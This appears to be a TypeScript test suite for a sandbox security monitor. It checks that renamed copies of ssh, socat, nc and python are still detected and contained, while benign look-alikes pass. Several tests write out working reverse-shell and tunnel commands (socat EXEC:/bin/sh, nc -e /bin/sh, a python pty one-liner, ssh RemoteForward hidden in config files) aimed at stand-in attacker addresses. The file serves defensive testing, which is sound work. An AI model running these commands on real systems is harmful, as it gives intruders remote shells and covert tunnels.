// Renamed and copied tools (issue 13 §2): the host's own ssh, socat, nc and python copied into
// the workspace under harmless names, run in real sandboxes inside the test topology. Names and
// paths say nothing; the executable's content does (proc.tool), and ssh's forwarding options
// hidden in a -F file or behind an Include count like -R on the command line. Each case must be
// contained by a shipped rule whose evidence carries the tool, and the fake servers prove that
// nothing got through; look-alikes (git over ssh with a plain config, a renamed ls, things only
// named like tools) must stay clean.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, realpathSync, rmSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { assertClean, assertContained, copyInto, openHarness, type CaseResult, type Ev, type Harness } from './harness.ts';

const SINK = '203.0.113.50';
const SSHD = '203.0.113.30';
const POLICY = `
network:
  allow:
    - { cidr: "${SSHD}/32", ports: [22] }
    - { cidr: "${SINK}/32", ports: [4444, 9001] }
  protocols:
    allow: [ssh]
`;
const SHELL_ANSWER = 'PRAETOR-SHELL-42';

let h: Harness;
let repo: string;
before(async () => {
  h = await openHarness(POLICY, { servers: ['ssh', 'sink', 'dns'] });
  // A bare repository on the fake ssh server's side (it shares this filesystem), for git over ssh.
  repo = `${h.dir}/srv/repo.git`;
  mkdirSync(`${h.dir}/srv`, { recursive: true });
  execFileSync('git', ['init', '-q', '--bare', repo]);
});
after(async () => {
  try { await h?.close(); } finally { if (repo) rmSync(`${h.dir}/srv`, { recursive: true, force: true }); }
});

const mark = async (server: string) => (await h.t.log(server)).length;
const since = async (server: string, m: number) => (await h.t.log(server)).slice(m);

/** Copies a host binary into a case's workspace under another name. */
function plant(name: string, from: string, as: string): void {
  copyInto(h, name, realpathSync(from), as, 0o755);
}

/** The event an alert names as evidence that is an exec (or a late identity). */
function trigger(c: CaseResult, alert: Ev): Ev {
  const ids = new Set(alert.evidence as string[]);
  const e = c.rep.events.find((x) => ids.has(x.id) && (x.kind === 'process.exec' || x.kind === 'process.identity'));
  assert.ok(e, `the alert's evidence is an exec: ${JSON.stringify(alert)}`);
  return e;
}

/** ssh material in the workspace: key and known_hosts, as /workspace/id and /workspace/known_hosts. */
function sshMaterial(name: string): void {
  copyInto(h, name, h.t.ssh.keyPath, 'id');
  copyInto(h, name, h.t.ssh.knownHostsPath, 'known_hosts', 0o644);
}
const SSH_OPTS = '-i /workspace/id -o UserKnownHostsFile=/workspace/known_hosts -o StrictHostKeyChecking=yes -o BatchMode=yes -o ConnectTimeout=5';

async function assertNoForward(m: number): Promise<void> {
  await new Promise((r) => setTimeout(r, 300));
  const at = await since('ssh', m);
  assert.deepEqual(at.filter((e) => e.event === 'forward'), [], `no forward reached sshd: ${JSON.stringify(at.slice(0, 20))}`);
}

async function assertNoShell(m: number): Promise<void> {
  await new Promise((r) => setTimeout(r, 300));
  const got = (await since('sink', m)).filter((e) => e.event === 'data').map((e) => String(e.text));
  assert.ok(!got.some((t) => t.includes(SHELL_ANSWER)), `no shell answered the sink: ${JSON.stringify(got)}`);
}

test('renamed copy of ssh with -R: tool=ssh, contained before any forward', async () => {
  const m = await mark('ssh');
  sshMaterial('rn-ssh-R');
  plant('rn-ssh-R', '/usr/bin/ssh', 'tx-helper');
  const c = await h.run('rn-ssh-R', ['sh', '-c', `./tx-helper -F none ${SSH_OPTS} -fNR 8022:localhost:22 root@${SSHD}; sleep 5`], { flags: ['--timeout', '20'] });
  const alert = assertContained(c, 'SSH port forwarding flags');
  const e = trigger(c, alert);
  assert.equal(e.comm, 'tx-helper', 'nothing in the name says ssh');
  assert.equal(e.tool, 'ssh');
  assert.equal(e.sha256, execFileSync('sha256sum', ['/usr/bin/ssh']).toString().split(' ')[0]);
  await assertNoForward(m);
});

test('renamed ssh, RemoteForward in a -F file in /tmp: tool=ssh, config options count like argv', async () => {
  const m = await mark('ssh');
  sshMaterial('rn-ssh-F');
  plant('rn-ssh-F', '/usr/bin/ssh', 'mirror-sync');
  const cfg = [`Host c2`, `  HostName ${SSHD}`, '  User root', '  IdentityFile /workspace/id', '  UserKnownHostsFile /workspace/known_hosts',
    '  StrictHostKeyChecking yes', '  BatchMode yes', '  ConnectTimeout 5', '  RemoteForward 8022 localhost:22'].join('\\n');
  const c = await h.run('rn-ssh-F', ['sh', '-c', `printf '${cfg}\\n' > /tmp/.cache-cfg && ./mirror-sync -F /tmp/.cache-cfg -N c2; sleep 5`], { flags: ['--timeout', '20'] });
  const alert = assertContained(c, 'SSH forwarding or tunnel options');
  const e = trigger(c, alert);
  assert.equal(e.tool, 'ssh');
  assert.ok((e.sshConfigOpts as string[]).includes('remoteforward'), JSON.stringify(e));
  assert.deepEqual(e.sshConfigFiles, ['/tmp/.cache-cfg']);
  assert.deepEqual((e.argv as string[]).filter((a) => /^-[A-Za-z]*R/.test(a)), [], 'no -R on the command line');
  await assertNoForward(m);
});

test('renamed ssh, RemoteForward behind an Include from ~/.ssh/config', async () => {
  const m = await mark('ssh');
  sshMaterial('rn-ssh-inc');
  plant('rn-ssh-inc', '/usr/bin/ssh', 'backup');
  const frag = [`Host c2`, `  HostName ${SSHD}`, '  User root', '  IdentityFile /workspace/id', '  UserKnownHostsFile /workspace/known_hosts',
    '  BatchMode yes', '  ConnectTimeout 5', '  RemoteForward 8022 localhost:22'].join('\\n');
  const c = await h.run('rn-ssh-inc', ['sh', '-c',
    `mkdir -p ~/.ssh/conf.d && printf 'Include conf.d/*.conf\\n' > ~/.ssh/config && printf '${frag}\\n' > ~/.ssh/conf.d/10-c2.conf && ./backup -N c2; sleep 5`],
  { flags: ['--timeout', '20'] });
  const alert = assertContained(c, 'SSH forwarding or tunnel options');
  const e = trigger(c, alert);
  assert.equal(e.tool, 'ssh');
  assert.ok((e.sshConfigFiles as string[]).includes('/home/agent/.ssh/conf.d/10-c2.conf'), JSON.stringify(e.sshConfigFiles));
  assert.ok((e.sshConfigOpts as string[]).includes('remoteforward'));
  await assertNoForward(m);
});

test('renamed socat reverse shell (EXEC): tool=socat', async () => {
  const m = await mark('sink');
  plant('rn-socat', '/usr/bin/socat', 'relay');
  const c = await h.run('rn-socat', ['./relay', `TCP:${SINK}:9001`, 'EXEC:/bin/sh,pty,stderr,setsid'], { flags: ['--timeout', '20'] });
  const alert = assertContained(c, 'Socat with EXEC or SYSTEM address');
  assert.equal(trigger(c, alert).tool, 'socat');
  await assertNoShell(m);
});

test('renamed nc with -e: tool=nc', async () => {
  const m = await mark('sink');
  plant('rn-nc', '/usr/bin/nc.openbsd', 'chk');
  const c = await h.run('rn-nc', ['sh', '-c', `./chk -e /bin/sh ${SINK} 4444; sleep 10`], { flags: ['--timeout', '20'] });
  const alert = assertContained(c, 'Netcat with command execution');
  assert.equal(trigger(c, alert).tool, 'nc');
  await assertNoShell(m);
});

test('renamed python with a socket one-liner: tool=python3', async () => {
  const m = await mark('sink');
  plant('rn-python', '/usr/bin/python3', 'pyx');
  const c = await h.run('rn-python', ['./pyx', '-c',
    `import socket,os,pty;s=socket.socket();s.connect(("${SINK}",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`],
  { flags: ['--timeout', '20'] });
  const alert = assertContained(c, 'Interpreter reverse shell one-liner');
  const e = trigger(c, alert);
  assert.equal(e.comm, 'pyx');
  assert.equal(e.tool, 'python3');
  await assertNoShell(m);
});

test('git whose GIT_SSH_COMMAND forwards: caught at git\'s exec, before ssh runs', async () => {
  const m = await mark('ssh');
  sshMaterial('git-fwd');
  const cfg = `Host gitsrv\n  HostName ${SSHD}\n  User root\n  IdentityFile /workspace/id\n  UserKnownHostsFile /workspace/known_hosts\n  BatchMode yes\n  ConnectTimeout 5\n  RemoteForward 8022 localhost:22\n`;
  const c = await h.run('git-fwd', ['sh', '-c', `GIT_SSH_COMMAND='ssh -F /workspace/ssh_config' git ls-remote gitsrv:${repo}; sleep 5`],
    { files: { ssh_config: cfg }, flags: ['--timeout', '20'] });
  const alert = assertContained(c, 'SSH forwarding or tunnel options');
  const e = trigger(c, alert);
  assert.equal(e.tool, 'git', `the first alert is on git itself: ${JSON.stringify(e)}`);
  assert.ok((e.sshConfigOpts as string[]).includes('remoteforward'));
  await assertNoForward(m);
});

test('benign: git over ssh with a plain -F config (no forwarding) stays clean, and really reached the server', async () => {
  const m = await mark('ssh');
  sshMaterial('git-ssh');
  const cfg = `Host gitsrv\n  HostName ${SSHD}\n  User root\n  IdentityFile /workspace/id\n  UserKnownHostsFile /workspace/known_hosts\n  StrictHostKeyChecking yes\n  BatchMode yes\n  ConnectTimeout 5\n`;
  const c = await h.run('git-ssh', ['sh', '-c', `GIT_SSH_COMMAND='ssh -F /workspace/ssh_config' git ls-remote gitsrv:${repo} && echo listed`],
    { files: { ssh_config: cfg }, flags: ['--timeout', '30'] });
  assertClean(c);
  assert.match(c.r.stdout, /listed/, `git reached the repository: ${c.r.stderr.slice(-500)}`);
  const ssh = c.rep.events.find((e) => e.kind === 'process.exec' && e.tool === 'ssh');
  assert.ok(ssh, 'the ssh client was identified');
  assert.deepEqual(ssh.sshConfigFiles, ['/workspace/ssh_config']);
  assert.ok(!(ssh.sshConfigOpts as string[]).some((k) => /forward|tunnel|proxy|localcommand/.test(k)), JSON.stringify(ssh.sshConfigOpts));
  assert.ok((await since('ssh', m)).some((e) => e.event === 'auth'), 'sshd saw the login');
});

test('benign: a renamed ls, `mkdir ssh-keys` and a do-nothing script named nc.sh stay clean', async () => {
  plant('lookalikes', '/usr/bin/ls', 'lister');
  // Both live a little (a recursive listing, a sleep) so their identity is read from
  // /proc/PID/exe even on a loaded host; a process gone before the sensor looks is `path`.
  const c = await h.run('lookalikes', ['sh', '-c', './lister -laR /usr/lib >/dev/null && mkdir -p ssh-keys && ./nc.sh -e probe && echo done'],
    { exes: { 'nc.sh': '#!/bin/sh\necho "checking $*"\nsleep 0.3\n' } });
  assertClean(c);
  assert.match(c.r.stdout, /checking -e probe/);
  const lister = c.rep.events.find((e) => e.kind === 'process.exec' && e.comm === 'lister');
  assert.ok(lister, 'lister ran');
  assert.equal(lister.tool, null, `ls is no known tool: ${JSON.stringify(lister)}`);
  assert.equal(typeof lister.sha256, 'string');
  const script = c.rep.events.find((e) => e.kind === 'process.exec' && String(e.path).endsWith('nc.sh'));
  assert.ok(script, 'nc.sh ran');
  assert.equal(script.tool, 'dash', `a #! script is its interpreter, not its name: ${JSON.stringify(script)}`);
});

